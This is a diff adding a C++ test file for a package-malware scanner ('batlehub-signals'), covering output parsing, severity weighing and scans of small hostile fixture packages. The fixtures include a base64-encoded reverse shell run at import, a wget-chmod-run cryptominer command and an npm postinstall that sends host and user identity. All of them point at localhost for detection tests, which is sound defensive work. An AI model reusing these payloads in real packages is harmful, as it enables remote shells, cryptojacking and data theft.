@@ -1,0 +1,311 @@
+// batlehub-signals as a consumer of the sandbox port: its output read as hostile input, its
+// facts weighed into findings (docs/verdicts.md, "batlehub-signals"), its plan as data, and
+// the real scanner run over small hostile packages written here — under `none`, and under
+// bwrap in its room (rooms/signals.toml), with the same findings.
+#include <gtest/gtest.h>
+
+#include "adapters/scanners/signals.h"
+#include "real_scanners.h"
+
+namespace batlehub::adapters {
+namespace {
+
+using core::Finding;
+using core::PackageKind;
+using core::ScannerError;
+using core::Severity;
+using namespace batlehub::testing;
+
+SignalsScanner scanner() {
+  return SignalsScanner(SignalsOptions{});
+}
+
+std::string fact(const std::string& f, const std::string& what, const std::string& file, int line,
+                 const std::string& detail, const std::string& phase = "") {
+  nlohmann::json j = {{"fact", f}, {"what", what}, {"file", file}, {"line", line}, {"detail", detail}};
+  if (!phase.empty()) j["phase"] = phase;
+  return j.dump() + "\n";
+}
+const std::string kDone = R"({"done":{"files_read":1,"bytes_read":10,"files_skipped":0,"facts_truncated":false}})"
+                          "\n";
+
+std::string weighed(const std::string& out) {
+  auto facts = parse_signals_output(out);
+  EXPECT_TRUE(facts) << facts.error().message;
+  return facts ? describe(weigh_signals(*facts, "signals")) : "";
+}
+
+// --- the output, as hostile input ------------------------------------------------------------
+
+TEST(Signals, output_without_its_done_line_is_a_run_cut_short) {
+  auto r = parse_signals_output(fact("shell", "miner", "p/x.py", 3, "xmrig"));
+  ASSERT_FALSE(r);
+  EXPECT_EQ(r.error().kind, ScannerError::Kind::kOutput);
+  EXPECT_EQ(r.error().message, "batlehub-signals output: no done line: the scan was cut short");
+}
+
+TEST(Signals, a_line_that_is_not_a_fact_object_is_an_output_error_naming_its_line) {
+  for (const auto& [out, says] : std::vector<std::pair<std::string, std::string>>{
+           {"[1,2]\n" + kDone, "line 1 is not a JSON object"},
+           {"{\"fact\":\"shell\"\n" + kDone, "line 1 is not a JSON object"},
+           {fact("shell", "miner", "p/x.py", 3, "x") + "{\"what\":\"x\"}\n" + kDone,
+            "line 2 has no \"fact\" or no \"file\""},
+           {kDone + fact("shell", "miner", "p/x.py", 3, "x"), "line 2 follows the done line"},
+           {std::string(kSignalsMaxLineBytes + 1, ' ') + "\n" + kDone, "line 1 is 16385 bytes, over 16384"},
+       }) {
+    auto r = parse_signals_output(out);
+    ASSERT_FALSE(r) << says;
+    EXPECT_EQ(r.error().message, "batlehub-signals output: " + says);
+  }
+  std::string many;
+  for (std::size_t i = 0; i <= kSignalsMaxLines; ++i) many += fact("send", "http", "p/a.py", 1, "urlopen(");
+  auto r = parse_signals_output(many + kDone);
+  ASSERT_FALSE(r);
+  EXPECT_EQ(r.error().message, "batlehub-signals output: more than 4096 lines");
+}
+
+TEST(Signals, an_unknown_fact_or_shell_class_adds_nothing_and_hides_nothing) {
+  EXPECT_EQ(weighed(fact("future-fact", "x", "p/a.py", 1, "?") + fact("shell", "new-kind", "p/a.py", 1, "?") +
+                    fact("shell", "miner", "p/a.py", 2, "xmrig -o stratum+tcp://127.0.0.1:1") + kDone),
+            "signals malware_signal MALWARE_SIGNAL high [signals-shell-miner] p/a.py:2 starts a cryptocurrency miner: "
+            "xmrig -o stratum+tcp://127.0.0.1:1\n");
+}
+
+// --- the weighing -------------------------------------------------------------------------
+
+TEST(Signals, a_decoded_payload_that_runs_is_high_and_one_step_up_in_setup_py) {
+  EXPECT_EQ(weighed(fact("decoded-executed", "base64", "evil-1.0/evil/core.py", 4, "base64: import socket") +
+                    fact("decoded-executed", "base64 → zlib", "evil-1.0/setup.py", 9, "base64 → zlib: import os") +
+                    fact("decoded-code", "hex", "evil-1.0/evil/data.py", 2, "hex: import os") + kDone),
+            "signals malware_signal MALWARE_SIGNAL high [signals-decoded-payload-executed] evil-1.0/evil/core.py:4 "
+            "decodes a string (base64) that reads as code and runs it: base64: import socket\n"
+            "signals malware_signal MALWARE_SIGNAL critical [signals-decoded-payload-executed] evil-1.0/setup.py:9 "
+            "decodes a string (base64 → zlib) that reads as code and runs it: base64 → zlib: import os\n"
+            "signals malware_signal MALWARE_SIGNAL medium [signals-decoded-code] evil-1.0/evil/data.py:2 decodes a "
+            "string (hex) that reads as code: hex: import os\n");
+}
+
+TEST(Signals, a_dropper_command_in_a_packages_tests_is_low_and_in_a_vendored_copy_one_step_down) {
+  EXPECT_EQ(weighed(fact("shell", "download-executed", "p-1.0/tests/test_x.py", 3, "wget …; chmod +x x") +
+                    fact("shell", "download-executed", "p-1.0/p/_vendor/six.py", 3, "wget …; chmod +x x") + kDone),
+            "signals malware_signal MALWARE_SIGNAL low [signals-shell-download-executed] p-1.0/tests/test_x.py:3 "
+            "downloads a program and runs it: wget …; chmod +x x\n"
+            "signals malware_signal MALWARE_SIGNAL medium [signals-shell-download-executed] p-1.0/p/_vendor/six.py:3 "
+            "downloads a program and runs it: wget …; chmod +x x\n");
+}
+
+TEST(Signals, host_identity_sent_decides_only_in_code_that_runs_at_install_or_import) {
+  const std::string lib = fact("collect", "host", "p-1.0/p/report.py", 3, "gethostname(") +
+                          fact("send", "http", "p-1.0/p/report.py", 9, "requests.post(");
+  // A library function that reports its host (a logger, an error reporter): no finding.
+  EXPECT_EQ(weighed(lib + kDone), "");
+  // The same in the package's __init__.py, which every import runs: high.
+  const std::string init = fact("collect", "host", "p-1.0/p/__init__.py", 3, "gethostname(") +
+                           fact("send", "http", "p-1.0/p/__init__.py", 9, "requests.post(");
+  EXPECT_EQ(weighed(init + kDone),
+            "signals malware_signal MALWARE_SIGNAL high [signals-collected-and-sent-at-install-or-import] "
+            "p-1.0/p/__init__.py:3 collects host and sends (http), at import: gethostname( (line 3); requests.post( "
+            "(line 9)\n");
+  // In the script an npm postinstall runs: install code, one step up.
+  const std::string hook = fact("collect", "host", "package/c.js", 2, "os.hostname(", "install") +
+                           fact("send", "http", "package/c.js", 5, "https.request(", "install");
+  EXPECT_EQ(weighed(hook + kDone),
+            "signals malware_signal MALWARE_SIGNAL critical [signals-collected-and-sent-at-install-or-import] "
+            "package/c.js:2 collects host and sends (http), at install: os.hostname( (line 2); https.request( (line "
+            "5)\n");
+}
+
+TEST(Signals, a_token_store_read_and_sent_is_high_wherever_the_code_is_installed) {
+  EXPECT_EQ(weighed(fact("collect", "token-store", "p-1.0/p/util.py", 7, "/local storage/leveldb") +
+                    fact("send", "webhook", "p-1.0/p/util.py", 12, "discord.com/api/webhooks") + kDone),
+            "signals malware_signal MALWARE_SIGNAL high [signals-token-store-sent] p-1.0/p/util.py:7 collects "
+            "token-store and sends (webhook): a token store read and sent: /local storage/leveldb (line 7); "
+            "discord.com/api/webhooks (line 12)\n");
+  // Read but never sent, or sent from another file: nothing.
+  EXPECT_EQ(weighed(fact("collect", "token-store", "p-1.0/p/util.py", 7, "login data") +
+                    fact("send", "http", "p-1.0/p/net.py", 3, "urlopen(") + kDone),
+            "");
+}
+
+// --- the plan ------------------------------------------------------------------------------
+
+TEST(Signals, the_plan_extracts_the_artifact_at_scan_tree_and_runs_the_scanner_over_it_with_no_network) {
+  core::ScanInput in;
+  in.package = core::Package{PackageKind::kNpm, "x", "1.0.0", "test"};
+  in.artifact = memory_blob("not read here", "x-1.0.0.tgz");
+  auto plan = scanner().plan(in);
+  ASSERT_TRUE(plan);
+  ASSERT_EQ(plan->size(), 1u);
+  const core::RunSpec& spec = plan->front();
+  EXPECT_EQ(spec.argv, (std::vector<std::string>{"batlehub-signals", "scan/tree"}));
+  EXPECT_FALSE(spec.network);
+  ASSERT_EQ(spec.bundle.entries.size(), 1u);
+  EXPECT_EQ(spec.bundle.entries[0].path.str(), "scan/tree");
+  EXPECT_EQ(spec.label.scanner, "signals");
+  core::ScanInput none;
+  none.package = in.package;
+  auto unsupported = scanner().plan(none);
+  ASSERT_FALSE(unsupported);
+  EXPECT_EQ(unsupported.error().kind, ScannerError::Kind::kUnsupported);
+}
+
+TEST(Signals, a_run_that_exits_non_zero_is_crashed_with_its_stderr) {
+  core::ScanInput in;
+  auto r = scanner().parse(in, {answered(2, "", "usage: batlehub-signals DIR\n")});
+  ASSERT_FALSE(r);
+  EXPECT_EQ(r.error().kind, ScannerError::Kind::kCrashed);
+  EXPECT_EQ(r.error().message, "batlehub-signals exited 2: usage: batlehub-signals DIR");
+}
+
+// --- the real scanner, over packages written here --------------------------------------------
+
+const std::string kMonero = "4" + std::string(94, 'A');
+
+core::ScanInput package(PackageKind kind, const std::string& name, const std::string& file,
+                        const std::vector<TestEntry>& entries) {
+  core::ScanInput in;
+  in.package = core::Package{kind, name, "1.0.0", "test"};
+  in.artifact = memory_blob(make_tgz(entries), file);
+  return in;
+}
+
+// A reverse shell, base64-encoded and executed when the package is imported.
+core::ScanInput reverse_shell_at_import() {
+  return package(
+      PackageKind::kPypi, "rshell", "rshell-1.0.0.tar.gz",
+      {file("rshell-1.0.0/setup.py", "from setuptools import setup\nsetup(name='rshell')\n"),
+       file("rshell-1.0.0/rshell/__init__.py",
+            "import base64\n"
+            "exec(base64.b64decode('aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zO3M9c29ja2V0LnNvY2tldCgpO3MuY29ubmVj"
+            "dCgoJzEyNy4wLjAuMScsOSkpO29zLmR1cDIocy5maWxlbm8oKSwwKTtzdWJwcm9jZXNzLmNhbGwoWycvYmluL3NoJywnLWkn"
+            "XSk='))\n")});
+}
+
+// A miner fetched, made executable and started from a function, as a command line.
+core::ScanInput miner_in_a_function() {
+  return package(PackageKind::kPypi, "fastcalc", "fastcalc-1.0.0.tar.gz",
+                 {file("fastcalc-1.0.0/fastcalc/core.py",
+                       "import subprocess\n\n"
+                       "def speedup():\n"
+                       "    subprocess.Popen('wget http://127.0.0.1:9/xm -O /tmp/xm && chmod +x /tmp/xm && "
+                       "/tmp/xm -o stratum+tcp://127.0.0.1:9 -u " +
+                           kMonero + "', shell=True)\n")});
+}
+
+// An npm postinstall that collects the host's identity and sends it.
+core::ScanInput host_sent_by_postinstall() {
+  return package(PackageKind::kNpm, "hostsend", "hostsend-1.0.0.tgz",
+                 {file("package/package.json",
+                       R"({"name":"hostsend","version":"1.0.0","scripts":{"postinstall":"node collect.js"}})"),
+                  file("package/collect.js",
+                       "const os = require('os');\nconst https = require('https');\n"
+                       "const d = JSON.stringify({h: os.hostname(), u: os.userInfo().username, d: __dirname});\n"
+                       "const r = https.request({hostname: '127.0.0.1', port: 9, method: 'POST'});\n"
+                       "r.write(d);\nr.end();\n"),
+                  file("package/index.js", "module.exports = 1;\n")});
+}
+
+// What ordinary libraries do: a logger that names its host, a client that sends, a build
+// script that runs git — none of it together in code that runs at install or import.
+core::ScanInput ordinary_library() {
+  return package(
+      PackageKind::kNpm, "ordinary", "ordinary-1.0.0.tgz",
+      {file("package/package.json", R"({"name":"ordinary","version":"1.0.0","main":"lib/index.js"})"),
+       file("package/lib/index.js",
+            "const https = require('https');\nmodule.exports = (u) => https.get(u);\n"
+            "const b = Buffer.from('aGVsbG8gd29ybGQsIHRoaXMgaXMgZGF0YQ==', 'base64');\n"
+            "/a'b/.exec('x');\n"),
+       file("package/lib/log.js", "const os = require('os');\nexports.host = os.hostname();\n"),
+       file("package/build.js", "const cp = require('child_process');\ncp.execSync('git describe --tags');\n")});
+}
+
+const std::string kExpected[] = {
+    "signals malware_signal MALWARE_SIGNAL high [signals-decoded-payload-executed] rshell-1.0.0/rshell/__init__.py:2 "
+    "decodes a string (base64) that reads as code and runs it: base64: import "
+    "socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/"
+    "sh','-i'])\n",
+    "signals malware_signal MALWARE_SIGNAL high [signals-shell-download-executed] fastcalc-1.0.0/fastcalc/core.py:4 "
+    "downloads a program and runs it: wget http://127.0.0.1:9/xm -O /tmp/xm; chmod +x /tmp/xm\n"
+    "signals malware_signal MALWARE_SIGNAL high [signals-shell-miner] fastcalc-1.0.0/fastcalc/core.py:4 starts a "
+    "cryptocurrency miner: /tmp/xm -o stratum+tcp://127.0.0.1:9 -u " +
+        kMonero + "\n",
+    "signals malware_signal MALWARE_SIGNAL critical [signals-collected-and-sent-at-install-or-import] "
+    "package/collect.js:3 collects host and sends (http), at install: os.hostname( (line 3); os.userInfo( (line 3); "
+    "https.request( (line 4)\n",
+    "",
+};
+
+std::vector<core::ScanInput> packages() {
+  return {reverse_shell_at_import(), miner_in_a_function(), host_sent_by_postinstall(), ordinary_library()};
+}
+
+class SignalsReal : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    scratch_ = new Scratch();
+    rooms_ = scratch_->root() / "rooms";
+    if (bwrap_unavailable().empty()) {
+      room_error_ = new std::string(
+          build_room_from(rooms_, "signals", "signals",
+                          std::string("--binary ") + BATLEHUB_SIGNALS_BIN + ":/usr/local/bin/batlehub-signals"));
+    }
+  }
+  static void TearDownTestSuite() {
+    delete scratch_;
+    scratch_ = nullptr;
+    delete room_error_;
+    room_error_ = nullptr;
+  }
+  void need_bwrap() {
+    if (auto why = bwrap_unavailable(); !why.empty()) GTEST_SKIP() << why;
+    ASSERT_TRUE(room_error_ && room_error_->empty()) << (room_error_ ? *room_error_ : "");
+  }
+  // `none`, with the build's scanner on its PATH.
+  std::unique_ptr<NoneRuntime> none() {
+    NoneOptions o;
+    o.scratch_dir = scratch_->work().string();
+    o.scanner_path = fs::path(BATLEHUB_SIGNALS_BIN).parent_path().string() + ":/usr/bin:/bin";
+    return std::move(NoneRuntime::create(o, [](std::string_view) { return std::optional<std::string>("1"); })).value();
+  }
+
+  static Scratch* scratch_;
+  static fs::path rooms_;
+  static std::string* room_error_;
+};
+Scratch* SignalsReal::scratch_ = nullptr;
+fs::path SignalsReal::rooms_;
+std::string* SignalsReal::room_error_ = nullptr;
+
+TEST_F(SignalsReal, under_none_the_hostile_packages_give_their_findings_and_the_ordinary_one_none) {
+  auto rt = none();
+  auto ps = packages();
+  for (std::size_t i = 0; i < ps.size(); ++i) {
+    auto got = core::scan_with(scanner(), *rt, ps[i]);
+    ASSERT_TRUE(got) << ps[i].package.name << ": " << got.error().message;
+    EXPECT_EQ(describe(*got), kExpected[i]) << ps[i].package.name;
+  }
+}
+
+TEST_F(SignalsReal, under_bwrap_in_its_room_the_findings_are_the_same) {
+  BATLEHUB_NEED_BWRAP();
+  auto rt = bwrap_runtime(*scratch_, rooms_);
+  auto ps = packages();
+  for (std::size_t i = 0; i < ps.size(); ++i) {
+    auto got = core::scan_with(scanner(), *rt, ps[i]);
+    ASSERT_TRUE(got) << ps[i].package.name << ": " << got.error().message;
+    EXPECT_EQ(describe(*got), kExpected[i]) << ps[i].package.name;
+  }
+}
+
+TEST_F(SignalsReal, its_room_holds_the_scanner_and_the_agent_and_nothing_else) {
+  BATLEHUB_NEED_BWRAP();
+  std::vector<std::string> files;
+  for (const auto& e : fs::recursive_directory_iterator(rooms_ / "signals")) {
+    if (e.is_regular_file()) files.push_back(fs::relative(e.path(), rooms_ / "signals").string());
+  }
+  std::sort(files.begin(), files.end());
+  EXPECT_EQ(files, (std::vector<std::string>{"usr/local/bin/batlehub-sandbox", "usr/local/bin/batlehub-signals"}));
+}
+
+}  // namespace
+}  // namespace batlehub::adapters
